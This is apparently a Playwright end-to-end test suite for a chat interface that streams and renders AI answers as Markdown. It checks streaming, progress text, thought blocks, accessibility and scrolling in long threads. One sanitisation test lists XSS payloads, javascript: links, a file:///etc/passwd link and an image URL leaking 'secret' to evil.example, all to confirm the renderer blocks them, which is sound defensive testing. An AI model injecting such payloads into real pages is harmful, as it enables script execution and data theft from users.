import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { openBrowser, takeScreenshot } from '../../headless/browser.ts';
import { accessibilityProblems, distanceFromEnd, openView } from './open-view.ts';
import { createMessage, createScriptedChat } from './scripted-chat.ts';
import { buildPage, type BuiltPage } from './view-under-test.ts';

let browser: Browser;
let built: BuiltPage;

beforeAll(async () => {
  [browser, built] = await Promise.all([openBrowser(), buildPage()]);
});
afterAll(async () => {
  await browser.close();
  await built[Symbol.asyncDispose]();
});

const answer = createMessage({ id: 'a1', role: 'assistant', state: 'running', parentId: 'm1' });
const everything = `# Tides

The **Moon** pulls, and so does the *Sun*. See [the article](https://example.com/tides).

## How it works

1. The near side is pulled most.
   - and rises
2. The far side least.

> Time and tide wait for no man.

| Place | Range (m) | Note |
|:--|--:|:-:|
| Bay of Fundy | 16.3 | the highest |

\`\`\`ts
// how far the water rises
export const range = (place: string): number => 16.3;
\`\`\`

- [x] read about the Moon
- [ ] watch the sea

### Last

Inline \`code\` and ~~struck~~ words.`;

describe('an answer', () => {
  test('streams in word by word and is typography when it ends', async () => {
    await using view = await openView(browser, built, { texts: ['How do tides work?'] });
    const { script, chat, problems } = view;
    script.put(answer);
    await chat.stop.waitFor();
    for (const piece of everything.match(/[^]{1,7}/g) ?? []) script.write('a1', piece);
    await chat.answerShows('struck words.');
    script.put({ ...answer, text: everything, state: 'done' });
    await chat.settled();

    const shown = chat.answers.last();
    await shown.getByRole('heading', { name: 'How it works' }).waitFor();
    expect(await shown.getByRole('listitem').count()).toBe(5);
    expect(await shown.getByRole('columnheader').allTextContents()).toEqual(['Place', 'Range (m)', 'Note']);
    expect(await shown.getByRole('img', { name: 'Done', exact: true }).count()).toBe(1);
    await shown.locator('.code-keyword').first().waitFor();
    expect(await shown.locator('pre').textContent()).toBe(
      '// how far the water rises\nexport const range = (place: string): number => 16.3;\n',
    );
    expect(problems).toEqual([]);
  });

  test('says in words what it is waiting for', async () => {
    await using view = await openView(browser, built, { texts: ['q'] });
    const { script, chat } = view;
    script.put(answer);
    await chat.answerShows('Waiting for the first word');
    script.emit({ type: 'progress', messageId: 'a1', progress: { phase: 'queued', ahead: 2 } });
    await chat.answerShows('2 requests ahead');
    script.emit({
      type: 'progress',
      messageId: 'a1',
      progress: { phase: 'loading', modelName: 'Qwen 3 8B', fraction: 0.63 },
    });
    await chat.answerShows('Loading Qwen 3 8B, 63%');
    script.emit({
      type: 'progress',
      messageId: 'a1',
      progress: { phase: 'reading', readTokens: 1200, totalTokens: 4096 },
    });
    await chat.answerShows('Reading your text, 1,200 of 4,096 tokens');
    await chat.answerShows('sec');
    script.write('a1', 'Tides');
    await chat.answerShows('Writing');
    expect(await chat.answers.last().textContent()).not.toContain('Reading');
  });

  test('shows a thought in one line that opens, while it grows and afterwards', async () => {
    const script = createScriptedChat(['1 + 1?']);
    script.messages.push(answer);
    script.progress = { phase: 'thinking' };
    await using view = await openView(browser, built, { script });
    const { chat, page } = view;
    await chat.answers.last().waitFor();
    script.emit({ type: 'thought', messageId: 'a1', offset: 0, text: 'One and one', sentAtMs: 1 });
    const part = chat.answers.last().locator('details');
    await part.getByText('Thinking').waitFor();
    expect(await part.getByText('One and one').isVisible()).toBe(false);
    script.emit({ type: 'thought', messageId: 'a1', offset: 11, text: ' make two.', sentAtMs: 2 });
    await part.locator('summary').click();
    await part.getByText('One and one make two.').waitFor();
    const thought = { text: 'One and one make two.', durationMs: 3100 };
    script.put({ ...answer, thought, text: 'Two.', state: 'done' });
    await part.getByText(/^Thought for 3/).waitFor();
    expect(await part.getByText(thought.text).isVisible()).toBe(true);
    expect(await accessibilityProblems(page)).toEqual([]);
  });

  test('can do nothing to the page, whatever a model writes', async () => {
    const hostile = [
      '<script>window.owned = 1</script>',
      '<img src=x onerror="window.owned = 2">',
      '<iframe src="https://evil.example/frame"></iframe>',
      '<style>body { display: none }</style>',
      '<form action="https://evil.example"><input name=a></form>',
      '![map](https://evil.example/map.png?words=secret)',
      '![](data:image/svg+xml,<svg onload=alert(1)>)',
      '[run](javascript:window.owned=3)',
      '[file](file:///etc/passwd)',
      '[ok](https://example.com/ok)',
      '<a href="javascript:window.owned=4">raw</a>',
      '[ref]: https://evil.example "x"\n[ref]',
      '```"><script>window.owned=5</script>\nconst a = 1;\n```',
      '| <b onmouseover=alert(1)>x</b> |\n|--|\n| y |',
    ].join('\n\n');
    await using view = await openView(browser, built, { texts: ['q', hostile] });
    const { chat, page, problems, strangers } = view;
    await chat.answers.last().locator('pre').waitFor();
    const shown = chat.answers.last();
    expect(await shown.locator('script, img, iframe, style, form, input, b').count()).toBe(0);
    const links = await shown
      .getByRole('link')
      .evaluateAll((found) =>
        found.map((link) => [
          link.textContent,
          link.getAttribute('href'),
          link.getAttribute('rel'),
          link.getAttribute('target'),
        ]),
      );
    const safe = ['noopener noreferrer', '_blank'];
    expect(links).toEqual([
      ['Image: map', 'https://evil.example/map.png?words=secret', ...safe],
      ['ok', 'https://example.com/ok', ...safe],
      ['ref', 'https://evil.example/', ...safe],
    ]);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'owned'))).toBeUndefined();
    expect(await shown.textContent()).toContain('<script>window.owned = 1</script>');
    expect(strangers).toEqual([]);
    expect(problems).toEqual([]);
  });

  test('is announced by whole sentences, and its end once', async () => {
    await using view = await openView(browser, built, { texts: ['q'] });
    const { script, chat, page } = view;
    const said = page.locator('[role=status][aria-live=polite]').filter({ has: page.locator('p') });
    script.put(answer);
    await chat.stop.waitFor();
    script.write('a1', 'The sea rises. And it');
    await said.getByText('The sea rises.', { exact: true }).waitFor();
    expect(await chat.thread.getAttribute('aria-live')).toBe('off');
    script.write('a1', ' falls again.');
    script.put({ ...answer, text: 'The sea rises. And it falls again.', state: 'done' });
    await said.getByText('And it falls again. Answer finished.', { exact: true }).waitFor();
    expect(await said.locator('p').count()).toBe(2);
  });
});

describe('a long thread', () => {
  test('keeps only what is in sight in the page', async () => {
    const script = createScriptedChat(Array.from({ length: 10_000 }, (_, index) => `Message ${index}`));
    script.window = 10_000;
    await using view = await openView(browser, built, { script });
    await view.chat.answers.filter({ hasText: 'Message 9999' }).waitFor();
    expect(await view.page.getByRole('article').count()).toBeLessThan(60);
    expect(await distanceFromEnd(view.chat.thread)).toBeLessThan(2);
  });

  test('loads older messages without moving what is being read, and says when it cannot', async () => {
    const script = createScriptedChat(
      Array.from({ length: 200 }, (_, index) => `Message ${index} `.repeat(1 + (index % 9) * 8)),
    );
    script.window = 40;
    script.failNext('earlier', new Error('the line broke'));
    await using view = await openView(browser, built, { script });
    const { chat, page } = view;
    await chat.answers.filter({ hasText: 'Message 199' }).waitFor();
    const retry = page.getByRole('button', { name: 'Retry', exact: true });
    await chat.thread.hover();
    while (!(await retry.isVisible())) await page.mouse.wheel(0, -400);
    await page.getByText('Earlier messages could not be loaded.').waitFor();
    await expect.poll(async () => (await rowsInSight(page)).length).toBeGreaterThan(1);

    const height = await chat.thread.evaluate((element) => element.scrollHeight);
    const before = await rowsInSight(page);
    await retry.click();
    await expect.poll(() => chat.thread.evaluate((element) => element.scrollHeight)).toBeGreaterThan(height + 1000);
    await expect.poll(async () => movedPx(before, await rowsInSight(page))).toBeLessThanOrEqual(2);

    // On to the very first one: every page comes by itself.
    await expect
      .poll(
        async () => {
          await chat.thread.evaluate((element) => (element.scrollTop = 0));
          return (await rowsInSight(page))[0]?.text;
        },
        { timeout: 30_000 },
      )
      .toMatch(/^Message 0\b/);
  });

  test('stays at its end for a reader who is there, and leaves alone one who is not', async () => {
    await using view = await openView(browser, built, { texts: ['q', 'Long ago. '.repeat(1200)] });
    const { script, chat, page } = view;
    await chat.answerShows('Long ago.');
    script.put({ ...answer, parentId: 'm2' });
    for (let line = 0; line < 60; line += 1) script.write('a1', `Line ${line} of the answer.\n\n`);
    await chat.answerShows('Line 59');
    await expect.poll(() => distanceFromEnd(chat.thread)).toBeLessThan(2);

    await chat.thread.hover();
    await page.mouse.wheel(0, -400);
    const jump = page.getByRole('button', { name: 'Jump to latest' });
    await jump.waitFor();
    const top = await chat.thread.evaluate((element) => element.scrollTop);
    for (let line = 60; line < 120; line += 1) script.write('a1', `Line ${line} of the answer.\n\n`);
    await expect.poll(() => distanceFromEnd(chat.thread)).toBeGreaterThan(1500);
    expect(await chat.thread.evaluate((element) => element.scrollTop)).toBe(top);

    await jump.click();
    await expect.poll(() => distanceFromEnd(chat.thread)).toBeLessThan(2);
    await jump.waitFor({ state: 'detached' });
    script.write('a1', 'The end.\n\n'.repeat(20));
    await chat.answerShows('The end.');
    await expect.poll(() => distanceFromEnd(chat.thread)).toBeLessThan(2);
  });

  test('goes to the message that a search found, however old', async () => {
    const script = createScriptedChat(Array.from({ length: 300 }, (_, index) => `Message ${index}`));
    await using view = await openView(browser, built, { script, place: 'c1/m21' });
    await view.page
      .getByRole('article')
      .filter({ hasText: /Message 20$/ })
      .waitFor();
    await expect.poll(async () => (await rowsInSight(view.page)).map(({ text }) => text)).toContain('Message 20');
  });
});

describe('looks', () => {
  const cases = [
    ['light', 'en-US'],
    ['dark', 'en-US'],
    ['light', 'zh-CN'],
    ['dark', 'zh-CN'],
  ] as const;

  test.each(cases)('a thread in %s, %s: nothing for axe to find', async (colorScheme, locale) => {
    const script = createScriptedChat(['How do tides work?', everything, 'Go on', 'The wind', 'And now?', '']);
    const failed = script.messages[3];
    const last = script.messages[5];
    if (!failed || !last) throw new Error('the script lacks a message');
    script.messages[3] = { ...failed, state: 'stopped' };
    script.messages[5] = {
      ...last,
      state: 'failed',
      error: {
        code: 'OUT_OF_MEMORY',
        message: '',
        data: { modelName: 'Qwen 3 8B', neededBytes: 8.4e9, freeBytes: 3.1e9 },
      },
    };
    await using view = await openView(browser, built, { script, locale, colorScheme });
    await view.page.getByRole('button', { name: /Retry|重试/ }).waitFor();
    await view.page.locator('.code-keyword').first().waitFor();
    await takeScreenshot(view.page, `thread-${colorScheme}-${locale}`);
    expect(await accessibilityProblems(view.page)).toEqual([]);
    expect(view.problems).toEqual([]);
  });

  test.each(cases)('a new conversation in %s, %s: nothing for axe to find', async (colorScheme, locale) => {
    await using view = await openView(browser, built, { place: '', locale, colorScheme });
    await takeScreenshot(view.page, `new-chat-${colorScheme}-${locale}`);
    expect(await accessibilityProblems(view.page)).toEqual([]);
    expect(view.problems).toEqual([]);
  });
});

interface Row {
  readonly text: string;
  readonly topPx: number;
}

/** How far the rows have moved, in pixels; Infinity when they are not the same rows. Heights are fractions of pixels. */
function movedPx(before: readonly Row[], after: readonly Row[]): number {
  if (before.map(({ text }) => text).join('\n') !== after.map(({ text }) => text).join('\n')) return Infinity;
  return Math.max(...before.map(({ topPx }, index) => Math.abs(topPx - (after[index]?.topPx ?? Infinity))));
}

/** The messages that are in sight, without the names and buttons around them, and where they stand in the window. */
async function rowsInSight(page: Page): Promise<Row[]> {
  return page.getByRole('article').evaluateAll((articles) => {
    const frame = document.querySelector('[role=log]')?.getBoundingClientRect();
    return articles.flatMap((article) => {
      const { top, bottom } = article.getBoundingClientRect();
      const text = article.querySelector('.answer-text, .markdown')?.textContent?.trim() ?? '';
      return frame && bottom > frame.top && top < frame.bottom ? [{ text, topPx: Math.round(top) }] : [];
    });
  });
}
